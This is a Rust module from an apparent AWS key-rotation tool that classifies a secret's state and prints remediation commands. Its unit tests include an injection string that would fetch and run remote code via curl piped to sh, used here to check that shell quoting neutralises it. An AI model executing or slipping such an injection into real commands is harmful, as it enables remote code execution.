//! A secret's state, judged from what `keyrot status` read of it (SPEC 9):
//! the most urgent of its problems, and the command that fixes it. Pure, so
//! every rule has a unit test.

use serde::Serialize;

use super::rotation_log::RotationLog;
use crate::clock::rfc3339;
use crate::model::binding::{Binding, bind_command};
use crate::model::secret::Secret;
use crate::model::secret_value::SecretValue;
use crate::model::user::IamUser;

/// A secret's state, most urgent first (SPEC 9); in JSON and tables as
/// `rotation-disabled`, `rolled-back`, ...
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum SecretState {
    /// The value or the user could not be read: the fix names the call.
    Unreadable,
    /// The current value is not a JSON object naming a `UserName`.
    InvalidValue,
    Broken,
    Stuck,
    Rotating,
    Unbound,
    Undelivered,
    /// A key the secret does not manage leaves the next rotation no room.
    Blocked,
    RotationDisabled,
    RolledBack,
    Overdue,
    Ok,
}

impl SecretState {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Unreadable => "unreadable",
            Self::InvalidValue => "invalid-value",
            Self::Broken => "broken",
            Self::Stuck => "stuck",
            Self::Rotating => "rotating",
            Self::Unbound => "unbound",
            Self::Undelivered => "undelivered",
            Self::Blocked => "blocked",
            Self::RotationDisabled => "rotation-disabled",
            Self::RolledBack => "rolled-back",
            Self::Overdue => "overdue",
            Self::Ok => "ok",
        }
    }

    /// Whether a person must act (`keyrot status` exits 1): everything but a
    /// healthy secret, a rotation under way, and a rollback that is waiting
    /// for its consumer to be fixed.
    pub fn needs_a_person(self) -> bool {
        !matches!(self, Self::Ok | Self::Rotating | Self::RolledBack)
    }
}

/// The fix for a secret whose current value is not one of this tool's.
pub(super) fn invalid_value_fix(secret: &Secret, reason: &str) -> String {
    format!(
        "the AWSCURRENT value is not valid ({reason}), so the next rotation fails with InvalidSecretValue: put back a JSON object naming the user, keeping AccessKeyId and SecretAccessKey if it holds a key: aws secretsmanager put-secret-value --secret-id {} --secret-string file://value.json",
        secret.name
    )
}

/// The fix for a secret (or its user) that could not be read: the call that
/// was refused, and what usually refuses it.
pub(super) fn unreadable_fix(operation: &str, code: &str, message: &str) -> String {
    format!(
        "{operation} was refused ({code}: {message}): allow it to your credentials; for a secret's value, check the secret's resource policy and its KMS key's policy (kms:Decrypt)"
    )
}

impl std::fmt::Display for SecretState {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The fix for a user not bound to this secret, or `None` if it is. The
/// re-tag command is offered for a missing tag and for the name form earlier
/// versions accepted (with the secret's creation date, to check it is the
/// secret the name meant, not one recreated since); never to move a user bound
/// to another secret, which only its administrator may decide.
///
/// Only a user of the secret's own account, tagged with exactly this secret's
/// name, gets the `# bound by name` line that docs/operating.md's one-pass
/// upgrade selects: a user read through a `RoleArn` is tagged in its own
/// account, and a tag naming another secret is not this secret's to claim.
pub(super) fn unbound_fix(
    user: &IamUser,
    secret: &Secret,
    elsewhere: Option<&str>,
) -> Option<String> {
    let retag = bind_command(&user.name, &secret.arn);
    let created = secret
        .created
        .as_ref()
        .map_or("at an unknown time".to_string(), rfc3339);
    match user.binding() {
        Binding::To(arn) if arn == secret.arn => None,
        _ if elsewhere.is_some() => Some(format!(
            "the user is in account {}: there, an administrator who has checked who created this secret (created {created}; CloudTrail CreateSecret) runs {retag}",
            elsewhere.unwrap_or_default()
        )),
        // Whoever may create a secret can name any user in it: binding is an
        // administrator's decision, made knowing who created the secret.
        Binding::None => Some(format!(
            "{retag}  # not bound: first check who created this secret (created {created}; CloudTrail CreateSecret)"
        )),
        Binding::ByName(name) if name == secret.name => Some(format!(
            "{retag}  # bound by name: first check that this secret (created {created}) is the one the tag meant"
        )),
        Binding::ByName(name) => Some(format!(
            "its binding tag holds another name ({name}): nothing to do if that secret rotates the user; to bind it here, an administrator first checks who created this secret (created {created}; CloudTrail CreateSecret), then runs {retag}"
        )),
        Binding::To(other) => Some(format!(
            "bound to another secret ({other}): nothing to do if that one rotates the user; to move it here, an administrator first checks who created this secret (CloudTrail CreateSecret) and then re-tags it"
        )),
    }
}

/// The account of the value's user when it is not the secret's own (a
/// `RoleArn` into another account).
pub(super) fn user_elsewhere<'a>(secret: &Secret, value: &'a SecretValue) -> Option<&'a str> {
    value
        .role_arn()
        .and_then(crate::arn::account_of)
        .filter(|account| Some(*account) != secret.account_id())
}

/// What the state of a secret is judged from.
pub(super) struct Facts<'a> {
    pub secret: &'a Secret,
    pub user: &'a str,
    pub user_exists: bool,
    /// `None` when the user is bound to this secret; else the fix.
    pub unbound: Option<String>,
    pub current_key: Option<&'a str>,
    pub current_key_works: bool,
    /// `AWSCURRENT` is older than `AWSPREVIOUS`: moved back by `keyrot rollback`
    /// or by hand.
    pub rolled_back: bool,
    /// The pending version and how many minutes ago it was made.
    pub pending: Option<(&'a str, f64)>,
    /// What the function's log says of the pending rotation, if read.
    pub log: Option<&'a RotationLog>,
    /// A key of the user that this secret does not manage and that leaves
    /// the next rotation no room (IAM allows two).
    pub blocking_key: Option<&'a str>,
    pub overdue: bool,
    pub stuck_after_minutes: f64,
    /// A delivery target misses the current version (SPEC 14): the fix.
    pub undelivered: Option<String>,
}

/// A key of the user that is not the secret's leaves the next rotation no
/// room: what to check, and what to delete.
fn blocked_fix(user: &str, key: &str) -> String {
    format!(
        "IAM user {user} holds key {key}, which this secret does not manage, beside its current key, so the next rotation fails with UnmanagedKeyBlocks: once nothing uses it (aws iam get-access-key-last-used --access-key-id {key}), delete it before the next rotation: aws iam delete-access-key --user-name {user} --access-key-id {key}"
    )
}

impl Facts<'_> {
    /// The most urgent state, and the command that fixes it. Consumers are
    /// broken now > a rotation failed > the next one will fail > none will run >
    /// one is late > one is running.
    pub(super) fn judge(&self) -> (SecretState, Option<String>) {
        let name = &self.secret.name;
        let rotate = format!("aws secretsmanager rotate-secret --secret-id {name}");
        if !self.user_exists {
            return (
                SecretState::Broken,
                Some(format!(
                    "IAM user {} does not exist: fix UserName in secret {name}, or delete the secret",
                    self.user
                )),
            );
        }
        if self.current_key.is_some() && !self.current_key_works {
            return (
                SecretState::Broken,
                Some(format!(
                    "the AWSCURRENT key is deleted or Inactive, so consumers are failing: rotate now to issue a working key: {rotate}"
                )),
            );
        }
        if let Some((version, minutes)) = self.pending {
            let pending = format!("pending for {minutes:.0} min");
            let failure = self.log.and_then(|log| log.failure.as_ref());
            let read_log = match self.log {
                Some(log) => format!(
                    "the log: {}{}",
                    log.command,
                    log.unread
                        .as_ref()
                        .map(|why| format!(" (keyrot could not read it: {why})"))
                        .unwrap_or_default()
                ),
                None => "find the errorType in the log of the rotation function".into(),
            };
            if minutes >= self.stuck_after_minutes || failure.is_some() {
                let what = match failure {
                    Some(failure) => format!(
                        "{pending}; {} failed with {} at {} (docs/troubleshooting.md says what to do)",
                        failure.step.as_deref().unwrap_or("a step"),
                        failure.error_type,
                        crate::clock::rfc3339(&aws_sdk_iam::primitives::DateTime::from_millis(
                            failure.at_ms
                        ))
                    ),
                    None => pending,
                };
                return (
                    SecretState::Stuck,
                    Some(format!(
                        "{what}; {read_log}; fix its cause, then: aws secretsmanager update-secret-version-stage --secret-id {name} --version-stage AWSPENDING --remove-from-version-id {} && {rotate}",
                        shell_word(version)
                    )),
                );
            }
            if self.unbound.is_none() && self.secret.rotation_enabled {
                return (
                    SecretState::Rotating,
                    Some(format!(
                        "{pending}, no step failed so far: wait for it to finish; {read_log}"
                    )),
                );
            }
        }
        if let Some(fix) = &self.unbound {
            return (SecretState::Unbound, Some(fix.clone()));
        }
        if let Some(key) = self.blocking_key {
            return (SecretState::Blocked, Some(blocked_fix(self.user, key)));
        }
        if let Some(fix) = &self.undelivered {
            return (SecretState::Undelivered, Some(fix.clone()));
        }
        if !self.secret.rotation_enabled {
            let function = self
                .secret
                .rotation_lambda_arn
                .clone()
                .unwrap_or_else(|| "<rotation function ARN>".to_string());
            return (
                SecretState::RotationDisabled,
                Some(format!(
                    "{rotate} --rotation-lambda-arn {function} --rotation-rules AutomaticallyAfterDays=30"
                )),
            );
        }
        if self.rolled_back {
            return (
                SecretState::RolledBack,
                Some(format!(
                    "the secret is back on the key its last rotation replaced: fix the consumer that needed the old key, then rotate again: {rotate}"
                )),
            );
        }
        if self.overdue {
            return (SecretState::Overdue, Some(rotate));
        }
        (SecretState::Ok, None)
    }
}

/// `word` as one shell word: as it is when it holds only characters no shell
/// treats specially, else single-quoted. A version id is the rotation's
/// `ClientRequestToken`, which whoever starts a rotation chooses.
fn shell_word(word: &str) -> std::borrow::Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.:/=+@,%".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        word.into()
    } else {
        format!("'{}'", word.replace('\'', "'\\''")).into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn secret(enabled: bool) -> Secret {
        Secret {
            arn: "arn:aws:secretsmanager:us-east-1:1:secret:iam-keys/app-AbCdEf".into(),
            name: "iam-keys/app".into(),
            rotation_enabled: enabled,
            rotation_lambda_arn: Some("arn:aws:lambda:us-east-1:1:function:rotator".into()),
            every_days: Some(30),
            schedule_expression: None,
            created: None,
            last_rotated: None,
            next_rotation: None,
            versions: Default::default(),
            delivery: Default::default(),
        }
    }

    fn healthy(secret: &Secret) -> Facts<'_> {
        Facts {
            secret,
            user: "app",
            user_exists: true,
            unbound: None,
            rolled_back: false,
            current_key: Some("AKIA1"),
            current_key_works: true,
            pending: None,
            log: None,
            blocking_key: None,
            overdue: false,
            stuck_after_minutes: 15.0,
            undelivered: None,
        }
    }

    #[test]
    fn a_version_id_is_one_shell_word_whatever_its_characters() {
        assert_eq!(shell_word("a1b2-c3d4"), "a1b2-c3d4");
        assert_eq!(
            shell_word("';curl e.vil|sh;# bound by name"),
            "''\\'';curl e.vil|sh;# bound by name'"
        );
    }

    #[test]
    fn the_most_urgent_state_wins_and_every_problem_has_a_fix() {
        let enabled = secret(true);
        let disabled = secret(false);
        let state = |facts: Facts<'_>| facts.judge();
        assert_eq!(state(healthy(&enabled)), (SecretState::Ok, None));
        let overdue = state(Facts {
            overdue: true,
            ..healthy(&enabled)
        });
        assert_eq!(overdue.0, SecretState::Overdue);
        assert_eq!(
            overdue.1.unwrap(),
            "aws secretsmanager rotate-secret --secret-id iam-keys/app"
        );
        let rotating = Facts {
            pending: Some(("v2", 3.0)),
            overdue: true,
            ..healthy(&enabled)
        };
        assert_eq!(state(rotating).0, SecretState::Rotating);
        let stuck = state(Facts {
            pending: Some(("v2", 20.0)),
            ..healthy(&enabled)
        });
        assert_eq!(stuck.0, SecretState::Stuck);
        assert!(stuck.1.unwrap().contains("pending for 20 min"));
        let broken = Facts {
            current_key_works: false,
            pending: Some(("v2", 20.0)),
            ..healthy(&enabled)
        };
        assert_eq!(state(broken).0, SecretState::Broken);
        assert_eq!(
            state(Facts {
                user_exists: false,
                ..healthy(&enabled)
            })
            .0,
            SecretState::Broken
        );
        assert_eq!(
            state(Facts {
                unbound: Some("aws iam tag-user ...".into()),
                overdue: true,
                ..healthy(&enabled)
            })
            .0,
            SecretState::Unbound
        );
        assert_eq!(
            state(Facts {
                overdue: true,
                ..healthy(&disabled)
            })
            .0,
            SecretState::RotationDisabled
        );
        let undelivered = state(Facts {
            undelivered: Some("target ci does not hold the current version".into()),
            overdue: true,
            ..healthy(&disabled)
        });
        assert_eq!(undelivered.0, SecretState::Undelivered);
        assert!(undelivered.1.unwrap().starts_with("target ci"));
        // A secret not yet rotated has no key to be broken.
        assert_eq!(
            state(Facts {
                current_key: None,
                current_key_works: false,
                ..healthy(&enabled)
            })
            .0,
            SecretState::Ok
        );
    }
}
